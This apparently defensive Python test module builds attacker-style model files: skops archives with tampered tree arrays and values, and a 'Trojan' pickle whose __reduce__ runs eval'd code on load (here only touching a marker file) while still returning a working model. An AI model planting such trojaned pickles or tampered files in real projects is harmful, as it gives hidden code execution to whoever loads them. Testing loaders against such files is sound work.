"""Model files as an attacker writes them: skops files whose trees point outside themselves,
pickles that run code when loaded (and return a real model, so nothing looks wrong)."""

import io
import json
import pickle
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path

import numpy as np

TREE = "Tree"  # the skops node of an sklearn Tree (loader TreeNode)
PREDICTOR = "TreePredictor"  # HistGradientBoosting's (loader ObjectNode)


def _nodes(schema, kind: str) -> Iterator[dict]:
    """Every node of the skops schema of class `kind`, in the file's order."""
    if isinstance(schema, dict):
        if schema.get("__class__") == kind and "content" in schema:
            yield schema
        for value in schema.values():
            yield from _nodes(value, kind)
    elif isinstance(schema, list):
        for value in schema:
            yield from _nodes(value, kind)


def _attribute(schema: dict, kind: str, key: str) -> dict:
    """The node of attribute `key` of the first `kind` object that has one."""
    return next(
        node["content"]["content"][key]
        for node in _nodes(schema, kind)
        if isinstance(node["content"], dict) and key in node["content"].get("content", {})
    )


def _rewritten(data: bytes, change: Callable[[dict, dict[str, bytes]], None]) -> bytes:
    """The skops file `data` with `change(schema, files)` applied, zipped again."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        files = {name: archive.read(name) for name in archive.namelist()}
    schema = json.loads(files["schema.json"])
    change(schema, files)
    files["schema.json"] = json.dumps(schema).encode()
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return out.getvalue()


def edit_first_array(data: bytes, kind: str, key: str, edit: Callable[[np.ndarray], None]) -> bytes:
    """The skops file with `edit` applied to the array `key` of its first `kind` node (a
    Tree's `nodes` or `values`, a TreePredictor's `nodes`)."""

    def change(schema: dict, files: dict[str, bytes]) -> None:
        name = _attribute(schema, kind, key)["file"]
        array = np.load(io.BytesIO(files[name]), allow_pickle=False)
        edit(array)
        buffer = io.BytesIO()
        np.save(buffer, array, allow_pickle=False)
        files[name] = buffer.getvalue()

    return _rewritten(data, change)


def set_first_value(data: bytes, kind: str, key: str, value) -> bytes:
    """The skops file with the JSON value `key` of its first `kind` node set to `value`."""

    def change(schema: dict, files: dict[str, bytes]) -> None:
        node = _attribute(schema, kind, key)
        node["content"] = json.dumps(value)
        node.pop("__id__", None)  # skops shares a value by id: this one is no longer shared

    return _rewritten(data, change)


class Trojan:
    """Pickles as code that touches `marker`, then returns `model` unpickled."""

    def __init__(self, model, marker: Path):
        self.model, self.marker = model, marker

    def __reduce__(self):
        code = (
            f"__import__('pathlib').Path({str(self.marker)!r}).touch() or "
            f"__import__('pickle').loads({pickle.dumps(self.model)!r})"
        )
        return (eval, (code,))


def trojan_pickle(model, marker: Path) -> bytes:
    """A pickle whose loading creates `marker` and gives back a working `model` (issue 24
    #1's model.pkl)."""
    return pickle.dumps(Trojan(model, marker))
